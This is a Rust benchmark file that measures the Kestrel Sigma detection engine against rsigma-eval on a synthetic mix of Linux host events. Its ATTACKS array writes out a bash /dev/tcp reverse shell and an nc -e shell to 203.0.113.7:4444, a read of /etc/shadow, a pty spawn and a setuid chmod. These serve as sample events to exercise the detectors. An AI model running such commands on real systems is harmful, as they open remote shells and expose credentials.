//! Sigma engine benchmark: Kestrel's detector against `rsigma-eval` (MIT) on the same rules
//! and the same realistic event mix, measured side by side in one run.
//!
//! Rules: the SigmaHQ Linux process_creation, file_event and network_connection rules
//! (`../shared/sigma`, DRL 1.1) plus Kestrel's default set (`collector/rules`).
//! Events: a deterministic mix of ordinary host activity (execs of everyday tools, file writes,
//! connections, forks and exits, a few credential/ptrace/module events) with a sprinkling of
//! attacks. Kestrel evaluates the proto events (field mapping included); rsigma gets the same
//! events already converted to flat JSON objects of the same Sigma fields (conversion not
//! timed) and the event's logsource.
//!
//! Before the criterion groups, `main` prints a side-by-side report: events/s of each engine
//! measured in alternating rounds on one core, their ratio, and the correlation state memory of
//! a 1M-event run (counted by a tracking allocator).
//!
//! Both engines run in this process with mimalloc, the allocator of the collector binary, and
//! Kestrel gets each event behind an `Arc`, as the collector's pipeline hands it over.
//!
//! For profiling, `KESTREL_BENCH_PROFILE=1` runs only Kestrel's detector for 10 s (after
//! printing which rules fire on the mix); add `KESTREL_BENCH_SIGMAHQ_ONLY=1` to leave out
//! Kestrel's own rules, or `KESTREL_BENCH_NO_EVIDENCE=1` to keep no correlation evidence;
//! `KESTREL_BENCH_PASSES=N` runs exactly N passes over the mix instead (for instruction counts
//! with `valgrind --tool=callgrind`, which are reproducible on a busy machine) and prints the
//! detections per rule over those passes.

use std::alloc::{GlobalAlloc, Layout};
use std::path::{Path, PathBuf};
use std::sync::atomic::{AtomicIsize, Ordering};
use std::sync::Arc;
use std::time::{Duration, Instant};

use criterion::{criterion_group, BenchmarkId, Criterion, Throughput};
use kestrel_detect::{
    categories_of, sigma_json, CorrelationLimits, Detector, RuleSet, SharedRules,
};
use kestrel_proto::event::Payload;
use kestrel_proto::{
    Ancestor, Container, CredentialEvent, Credentials, Event, ExecEvent, ExitEvent, FileEvent,
    FileOp, ForkEvent, MemfdEvent, ModuleEvent, NetworkEvent, NetworkOp, Process, PtraceEvent,
};
use mimalloc::MiMalloc;
use rsigma_eval::event::JsonEvent;
use rsigma_eval::{CorrelationConfig, CorrelationEngine, Engine};
use rsigma_parser::LogSource;

/// Counts live heap bytes, to measure detector state. Allocates with mimalloc, the allocator
/// the collector binary runs with (both engines use it here).
struct Tracking;

static LIVE: AtomicIsize = AtomicIsize::new(0);

unsafe impl GlobalAlloc for Tracking {
    unsafe fn alloc(&self, layout: Layout) -> *mut u8 {
        LIVE.fetch_add(layout.size() as isize, Ordering::Relaxed);
        unsafe { MiMalloc.alloc(layout) }
    }
    unsafe fn dealloc(&self, ptr: *mut u8, layout: Layout) {
        LIVE.fetch_sub(layout.size() as isize, Ordering::Relaxed);
        unsafe { MiMalloc.dealloc(ptr, layout) }
    }
    unsafe fn realloc(&self, ptr: *mut u8, layout: Layout, new_size: usize) -> *mut u8 {
        LIVE.fetch_add(
            new_size as isize - layout.size() as isize,
            Ordering::Relaxed,
        );
        unsafe { MiMalloc.realloc(ptr, layout, new_size) }
    }
}

#[global_allocator]
static ALLOCATOR: Tracking = Tracking;

/// Distinct events in the mix (cycled for longer runs).
const MIX: usize = 20_000;

/// The engine's throughput target on one core (issue 4).
const TARGET_EVENTS_PER_SEC: u64 = 1_000_000;

fn manifest() -> &'static Path {
    Path::new(env!("CARGO_MANIFEST_DIR"))
}

/// The rule files of the benchmark: SigmaHQ Linux rules of our three categories, then ours.
fn rule_files() -> Vec<(PathBuf, String)> {
    let sigma = manifest().join("../../shared/sigma");
    let dirs = [
        sigma.join("rules/linux/process_creation"),
        sigma.join("rules/linux/file_event"),
        sigma.join("rules/linux/network_connection"),
        sigma.join("rules-threat-hunting/linux/process_creation"),
        sigma.join("rules-threat-hunting/linux/file"),
        manifest().join("../collector/rules"),
    ];
    let mut files = Vec::new();
    for dir in dirs {
        let paths = kestrel_detect::rule_files(&dir)
            .unwrap_or_else(|e| panic!("benchmark rules missing: {e}"));
        for path in paths {
            let text = std::fs::read_to_string(&path).unwrap();
            files.push((path, text));
        }
    }
    files
}

/// A small deterministic generator (xorshift), so runs are comparable.
struct Rng(u64);

impl Rng {
    fn next(&mut self) -> u64 {
        self.0 ^= self.0 << 13;
        self.0 ^= self.0 >> 7;
        self.0 ^= self.0 << 17;
        self.0
    }
    fn below(&mut self, n: usize) -> usize {
        (self.next() % n as u64) as usize
    }
    fn pick<'a, T>(&mut self, items: &'a [T]) -> &'a T {
        &items[self.below(items.len())]
    }
}

const COMMANDS: &[&[&str]] = &[
    &["/usr/bin/ls", "ls", "-la", "/var/www/html"],
    &["/usr/bin/git", "git", "status", "--porcelain"],
    &["/usr/bin/git", "git", "fetch", "origin", "main"],
    &["/usr/bin/grep", "grep", "-rn", "TODO", "src/"],
    &[
        "/usr/bin/python3.11",
        "python3",
        "/opt/app/manage.py",
        "migrate",
        "--noinput",
    ],
    &[
        "/usr/bin/python3.11",
        "python3",
        "-m",
        "pip",
        "list",
        "--outdated",
    ],
    &[
        "/usr/bin/node",
        "node",
        "/srv/api/server.js",
        "--port",
        "3000",
    ],
    &["/usr/bin/gcc", "gcc", "-O2", "-c", "main.c", "-o", "main.o"],
    &["/usr/bin/make", "make", "-j8", "all"],
    &["/usr/bin/cat", "cat", "/proc/meminfo"],
    &["/usr/bin/awk", "awk", "-F:", "{print $1}", "/etc/group"],
    &["/usr/bin/sed", "sed", "-i", "s/foo/bar/g", "config.ini"],
    &["/usr/sbin/logrotate", "logrotate", "/etc/logrotate.conf"],
    &["/usr/bin/systemctl", "systemctl", "is-active", "nginx"],
    &[
        "/usr/bin/curl",
        "curl",
        "-s",
        "https://api.internal.example/health",
    ],
    &[
        "/usr/bin/ssh",
        "ssh",
        "-o",
        "BatchMode=yes",
        "deploy@10.0.4.12",
        "uptime",
    ],
    &["/usr/bin/docker", "docker", "ps", "--format", "{{.Names}}"],
    &["/usr/bin/tar", "tar", "czf", "/backup/www.tgz", "/var/www"],
    &[
        "/usr/bin/find",
        "find",
        "/var/log",
        "-name",
        "*.gz",
        "-mtime",
        "+30",
    ],
    &[
        "/usr/bin/java",
        "java",
        "-Xmx2g",
        "-jar",
        "/opt/svc/app.jar",
        "--spring.profiles.active=prod",
    ],
    &["/usr/bin/bash", "bash", "/etc/cron.daily/apt-compat"],
    &["/usr/bin/ps", "ps", "-eo", "pid,comm,%cpu"],
    &[
        "/usr/bin/sudo",
        "sudo",
        "-n",
        "/usr/bin/systemctl",
        "reload",
        "nginx",
    ],
    &[
        "/usr/bin/rsync",
        "rsync",
        "-az",
        "/srv/data/",
        "backup:/srv/data/",
    ],
];

const ATTACKS: &[&[&str]] = &[
    &[
        "/usr/bin/bash",
        "bash",
        "-c",
        "bash -i >& /dev/tcp/203.0.113.7/4444 0>&1",
    ],
    &["/usr/bin/nc", "nc", "203.0.113.7", "4444", "-e", "/bin/sh"],
    &["/usr/bin/cat", "cat", "/etc/shadow"],
    &[
        "/usr/bin/python3",
        "python3",
        "-c",
        "import pty;pty.spawn('/bin/bash')",
    ],
    &["/usr/bin/chmod", "chmod", "u+s", "/tmp/.sh"],
    &["/usr/bin/base64", "base64", "-d", "/tmp/x.b64"],
];

const PARENTS: &[&str] = &[
    "/usr/bin/bash",
    "/usr/sbin/cron",
    "/usr/lib/systemd/systemd",
    "/usr/sbin/sshd",
    "/usr/bin/python3.11",
    "/usr/bin/make",
];

const WRITTEN: &[&str] = &[
    "/var/log/nginx/access.log",
    "/var/log/app/app.log",
    "/tmp/pip-build-x81/setup.py",
    "/home/alice/project/target/debug/build.log",
    "/var/lib/postgresql/15/main/pg_wal/000000010000000000000042",
    "/etc/nginx/conf.d/site.conf",
    "/run/user/1000/bus",
    "/var/cache/apt/archives/partial/pkg.deb",
];

fn process(rng: &mut Rng, exe: &str, argv: &[&str], host: usize, session: usize) -> Process {
    let pid = 1000 + rng.below(60_000) as u32;
    Process {
        pid,
        tgid: pid,
        ppid: 900,
        uid: if rng.below(4) == 0 { 0 } else { 1000 },
        user: "alice".into(),
        exe: exe.into(),
        comm: exe
            .rsplit('/')
            .next()
            .unwrap_or_default()
            .chars()
            .take(15)
            .collect(),
        argv: argv.iter().map(|s| s.to_string()).collect(),
        cwd: "/home/alice".into(),
        exec_id: format!("h{host}-p{}", rng.next() % 1_000_000),
        parent_exec_id: format!("h{host}-s{session}"),
        ..Default::default()
    }
}

/// The i-th event of the mix: about 45% execs, 30% file events, 15% network, 10% other.
fn event(rng: &mut Rng, i: usize) -> Event {
    let host = rng.below(50);
    let session = rng.below(2000);
    let time_unix_ns = 1_700_000_000_000_000_000 + i as u64 * 100_000; // 10k events/s
    let roll = rng.below(1000);
    let (process, payload) = if roll < 450 {
        let list = if roll < 3 { ATTACKS } else { COMMANDS };
        let cmd: &[&str] = list[rng.below(list.len())];
        let parent = *rng.pick(PARENTS);
        let ancestors = vec![
            Ancestor {
                pid: 900,
                exe: parent.into(),
                argv: vec![parent.rsplit('/').next().unwrap().into()],
                user: "alice".into(),
                exec_id: format!("h{host}-s{session}"),
                ..Default::default()
            },
            Ancestor {
                pid: 800,
                exe: "/usr/sbin/sshd".into(),
                argv: vec!["sshd: alice [priv]".into()],
                user: "root".into(),
                exec_id: format!("h{host}-sshd"),
                ..Default::default()
            },
        ];
        (
            process(rng, cmd[0], &cmd[1..], host, session),
            Payload::Exec(ExecEvent {
                ancestors,
                ..Default::default()
            }),
        )
    } else if roll < 750 {
        let op = match rng.below(20) {
            0 => FileOp::FileUnlink,
            1 => FileOp::FileRename,
            2 => FileOp::FileChmod,
            3 => FileOp::FileReadSensitive,
            _ => FileOp::FileOpen,
        };
        let path = *rng.pick(WRITTEN);
        (
            process(
                rng,
                "/usr/bin/python3.11",
                &["python3", "worker.py"],
                host,
                session,
            ),
            Payload::File(FileEvent {
                op: op as i32,
                path: path.into(),
                target_path: if op == FileOp::FileRename {
                    format!("{path}.1")
                } else {
                    String::new()
                },
                mode: 0o644,
                created: rng.below(4) == 0,
                ..Default::default()
            }),
        )
    } else if roll < 900 {
        let op = if rng.below(3) == 0 {
            NetworkOp::NetworkAccept
        } else {
            NetworkOp::NetworkConnect
        };
        (
            process(
                rng,
                "/usr/bin/curl",
                &["curl", "https://api.internal.example/"],
                host,
                session,
            ),
            Payload::Network(NetworkEvent {
                op: op as i32,
                protocol: 6,
                family: 2,
                local_ip: "10.0.0.2".into(),
                local_port: 40_000 + rng.below(20_000) as u32,
                remote_ip: format!("10.0.{}.{}", rng.below(8), rng.below(250)),
                remote_port: *rng.pick(&[443, 80, 5432, 6379, 22, 8080]),
                initiated: op == NetworkOp::NetworkConnect,
                ..Default::default()
            }),
        )
    } else {
        let p = process(rng, "/usr/bin/bash", &["bash"], host, session);
        let payload = match rng.below(8) {
            0..=2 => Payload::Fork(ForkEvent { parent_tgid: 900 }),
            3..=5 => Payload::Exit(ExitEvent::default()),
            6 => Payload::Credential(CredentialEvent {
                syscall: "setresuid".into(),
                old: Some(Credentials {
                    ruid: 0,
                    euid: 0,
                    ..Default::default()
                }),
                new: Some(Credentials {
                    ruid: 33,
                    euid: 33,
                    ..Default::default()
                }),
                ..Default::default()
            }),
            _ => match rng.below(3) {
                0 => Payload::Ptrace(PtraceEvent {
                    syscall: "ptrace".into(),
                    request: 16,
                    target_pid: 1234,
                    ..Default::default()
                }),
                1 => Payload::Module(ModuleEvent {
                    syscall: "finit_module".into(),
                    path: "/lib/modules/6.1.0/kernel/net/x.ko".into(),
                    ..Default::default()
                }),
                _ => Payload::Memfd(MemfdEvent {
                    name: "jit".into(),
                    ..Default::default()
                }),
            },
        };
        (p, payload)
    };
    Event {
        time_unix_ns,
        host: format!("node-{host}"),
        seq: i as u64,
        container: (rng.below(5) == 0).then(|| Container {
            id: format!("c{host}{session}"),
            name: "web".into(),
            ..Default::default()
        }),
        process: Some(process),
        payload: Some(payload),
        ..Default::default()
    }
}

/// The mix as the collector's pipeline hands events to the detector: each behind an `Arc`.
fn event_mix(n: usize, seed: u64) -> Vec<Arc<Event>> {
    let mut rng = Rng(seed);
    (0..n).map(|i| Arc::new(event(&mut rng, i))).collect()
}

/// The same events for rsigma: flat JSON of the same fields, and each logsource they belong to.
fn rsigma_events(events: &[Arc<Event>]) -> Vec<(serde_json::Value, Vec<LogSource>)> {
    events
        .iter()
        .map(|e| {
            let json = serde_json::Value::Object(sigma_json(e, None));
            let sources = categories_of(e)
                .iter()
                .map(|c| LogSource {
                    category: Some(c.name().to_string()),
                    product: Some("linux".into()),
                    ..Default::default()
                })
                .collect();
            (json, sources)
        })
        .collect()
}

struct Engines {
    kestrel: Arc<RuleSet>,
    rsigma: Engine,
    rsigma_correlation: CorrelationEngine,
    kestrel_rules: usize,
    rsigma_rules: usize,
    rsigma_rejected: usize,
}

fn engines() -> Engines {
    let files = rule_files();
    let (set, errors) = RuleSet::from_texts(files.iter().map(|(p, t)| (p.clone(), t.as_str())));
    let kestrel_rules = set.len();
    let _ = errors; // the 5 SigmaHQ rules needing fields Kestrel does not produce
    let mut rsigma = Engine::new();
    let mut rsigma_correlation = CorrelationEngine::new(CorrelationConfig::default());
    let mut rsigma_rejected = 0;
    for (_, text) in &files {
        match rsigma_parser::parse_sigma_yaml(text) {
            Ok(collection) => {
                if rsigma.add_collection(&collection).is_err() {
                    rsigma_rejected += 1;
                }
                let _ = rsigma_correlation.add_collection(&collection);
            }
            Err(_) => rsigma_rejected += 1,
        }
    }
    let rsigma_rules = rsigma.rule_count();
    Engines {
        kestrel: Arc::new(set),
        rsigma,
        rsigma_correlation,
        kestrel_rules,
        rsigma_rules,
        rsigma_rejected,
    }
}

fn run_kestrel(detector: &mut Detector, events: &[Arc<Event>]) -> usize {
    events.iter().map(|e| detector.evaluate(e).len()).sum()
}

fn run_rsigma(engine: &Engine, events: &[(serde_json::Value, Vec<LogSource>)]) -> usize {
    let mut hits = 0;
    for (json, sources) in events {
        let event = JsonEvent::borrow(json);
        for source in sources {
            hits += engine.evaluate_with_logsource(&event, source).len();
        }
    }
    hits
}

fn run_rsigma_correlation(
    engine: &mut CorrelationEngine,
    events: &[(serde_json::Value, Vec<LogSource>)],
    base_secs: i64,
) -> usize {
    let mut hits = 0;
    for (i, (json, _)) in events.iter().enumerate() {
        let event = JsonEvent::borrow(json);
        let result = engine.process_event_at(&event, base_secs + i as i64 / 10_000);
        hits += result.len();
    }
    hits
}

/// Events per second of `f` over `events` events, best of `rounds` runs of at least `min`.
fn rate(mut f: impl FnMut() -> usize, events: usize, min: Duration) -> (f64, usize) {
    let start = Instant::now();
    let mut runs = 0;
    let mut hits = 0;
    while start.elapsed() < min || runs == 0 {
        hits = f();
        runs += 1;
    }
    ((events * runs) as f64 / start.elapsed().as_secs_f64(), hits)
}

fn side_by_side() {
    let e = engines();
    let events = event_mix(MIX, 0x5eed);
    let json = rsigma_events(&events);
    println!("\n=== Sigma engine: Kestrel vs rsigma-eval 0.23 (same rules, same {MIX} events, one core) ===");
    println!(
        "rules: Kestrel {} compiled; rsigma {} compiled ({} files rejected)",
        e.kestrel_rules, e.rsigma_rules, e.rsigma_rejected
    );
    let mut detector = Detector::new(e.kestrel.clone());
    let mut rsigma_corr = e.rsigma_correlation;
    let (mut ours, mut theirs, mut theirs_corr) = (Vec::new(), Vec::new(), Vec::new());
    let (mut our_hits, mut their_hits) = (0, 0);
    for round in 0..3 {
        let (r, h) = rate(
            || run_kestrel(&mut detector, &events),
            MIX,
            Duration::from_secs(2),
        );
        ours.push(r);
        our_hits = h;
        let (r, h) = rate(|| run_rsigma(&e.rsigma, &json), MIX, Duration::from_secs(2));
        theirs.push(r);
        their_hits = h;
        let base = 1_700_000_000 + round * 1_000;
        let (r, _) = rate(
            || run_rsigma_correlation(&mut rsigma_corr, &json, base),
            MIX,
            Duration::from_secs(2),
        );
        theirs_corr.push(r);
    }
    let best = |v: &[f64]| v.iter().copied().fold(0.0, f64::max);
    let (ours, theirs, theirs_corr) = (best(&ours), best(&theirs), best(&theirs_corr));
    println!(
        "Kestrel Detector::evaluate (detection + correlation): {:>12.0} events/s  ({our_hits} detections per pass)",
        ours
    );
    println!(
        "rsigma Engine::evaluate_with_logsource (detection):   {:>12.0} events/s  ({their_hits} matches per pass)",
        theirs
    );
    println!(
        "rsigma CorrelationEngine::process_event_at:            {:>12.0} events/s",
        theirs_corr
    );
    println!(
        "ratio Kestrel / rsigma: {:.2}x (detection engine), {:.2}x (with correlation)",
        ours / theirs,
        ours / theirs_corr
    );
    println!(
        "target {TARGET_EVENTS_PER_SEC} events/s per core: {} ({ours:.0})",
        if ours >= TARGET_EVENTS_PER_SEC as f64 {
            "met"
        } else {
            "MISSED"
        }
    );
    correlation_memory(&e.kestrel);
}

/// Correlation and session state after a 1M-event run (default caps), by the tracking
/// allocator and by the detector's own estimate.
fn correlation_memory(rules: &Arc<RuleSet>) {
    let events = event_mix(MIX, 0xfeed);
    let before = LIVE.load(Ordering::Relaxed);
    let mut detector = Detector::with_limits(
        SharedRules::new(rules.clone()),
        CorrelationLimits::default(),
        kestrel_detect::DEFAULT_SESSION_CAPACITY,
    );
    let mut peak = 0isize;
    let total = 1_000_000;
    for i in 0..total {
        let mut e = Event::clone(&events[i % MIX]);
        e.time_unix_ns = 1_700_000_000_000_000_000 + i as u64 * 100_000;
        // Distinct processes across the run: sessions and exec ids keep changing.
        if let Some(p) = e.process.as_mut() {
            p.exec_id = format!("{}-{}", p.exec_id, i / MIX);
        }
        detector.evaluate(&Arc::new(e));
        if i % 50_000 == 0 {
            peak = peak.max(LIVE.load(Ordering::Relaxed) - before);
        }
    }
    let live = LIVE.load(Ordering::Relaxed) - before;
    let stats = detector.stats();
    let mib = |b: f64| b / 1048576.0;
    println!(
        "detector state after {total} events ({} s of event time, 50 hosts): {:.1} MiB live by the \
         allocator (peak sampled {:.1} MiB)",
        total / 10_000,
        mib(live as f64),
        mib(peak as f64),
    );
    println!(
        "  session table: {} processes, ~{:.1} MiB; correlation: {} groups, {} entries, \
         ~{:.1} MiB + shared evidence events = {:.1} MiB (live minus session table); \
         groups evicted {}, expired {}",
        stats.sessions.processes,
        mib(stats.session_bytes as f64),
        stats.correlation.groups,
        stats.correlation.entries,
        mib(stats.correlation_bytes as f64),
        mib(live as f64 - stats.session_bytes as f64),
        stats.correlation.groups_evicted,
        stats.correlation.groups_expired,
    );
    println!();
}

fn criterion_benches(c: &mut Criterion) {
    let e = engines();
    let events = event_mix(MIX, 0x5eed);
    let json = rsigma_events(&events);
    let mut group = c.benchmark_group("sigma_engine");
    group.throughput(Throughput::Elements(MIX as u64));
    group.sample_size(10);
    let mut detector = Detector::new(e.kestrel.clone());
    group.bench_function(BenchmarkId::new("kestrel", "detector"), |b| {
        b.iter(|| run_kestrel(&mut detector, &events))
    });
    group.bench_function(BenchmarkId::new("rsigma-eval", "engine"), |b| {
        b.iter(|| run_rsigma(&e.rsigma, &json))
    });
    group.finish();
}

criterion_group!(benches, criterion_benches);

fn main() {
    if std::env::var_os("KESTREL_BENCH_PROFILE").is_some() {
        // Only Kestrel's detector, for a profiler: `KESTREL_BENCH_PROFILE=1 perf record ...`.
        let e = engines();
        let events = event_mix(MIX, 0x5eed);
        let mut detector = Detector::new(e.kestrel.clone());
        if std::env::var_os("KESTREL_BENCH_NO_EVIDENCE").is_some() {
            let limits = CorrelationLimits {
                max_evidence: 0,
                ..CorrelationLimits::default()
            };
            detector = Detector::with_limits(SharedRules::new(e.kestrel.clone()), limits, 1 << 20);
        }
        if std::env::var_os("KESTREL_BENCH_SIGMAHQ_ONLY").is_some() {
            let files: Vec<_> = rule_files()
                .into_iter()
                .filter(|(p, _)| !p.starts_with(manifest().join("../collector/rules")))
                .collect();
            let (set, _) = RuleSet::from_texts(files.iter().map(|(p, t)| (p.clone(), t.as_str())));
            detector = Detector::new(Arc::new(set));
        }
        let mut fired = std::collections::BTreeMap::new();
        for e in &events {
            for d in detector.evaluate(e) {
                *fired.entry(d.rule.id.clone()).or_insert(0) += 1;
            }
        }
        println!("detections in the mix: {fired:?}");
        if let Some(passes) = std::env::var("KESTREL_BENCH_PASSES")
            .ok()
            .and_then(|p| p.parse::<usize>().ok())
        {
            // A fixed amount of work, for instruction counts (valgrind --tool=callgrind). The
            // per-rule counts of every pass are printed so that a change can be checked for
            // identical results (later passes see the correlation and session state of earlier
            // ones).
            let mut per_rule = std::collections::BTreeMap::new();
            let mut hits = 0;
            for _ in 0..passes {
                for e in &events {
                    for d in detector.evaluate(e) {
                        hits += 1;
                        *per_rule.entry(d.rule.id.clone()).or_insert(0usize) += 1;
                    }
                }
            }
            println!("detections per rule over the passes: {per_rule:?}");
            println!("kestrel: {passes} passes of {MIX} events, {hits} detections");
            return;
        }
        let (r, _) = rate(
            || run_kestrel(&mut detector, &events),
            MIX,
            Duration::from_secs(10),
        );
        println!("kestrel: {r:.0} events/s");
        return;
    }
    side_by_side();
    benches();
    Criterion::default().configure_from_args().final_summary();
}
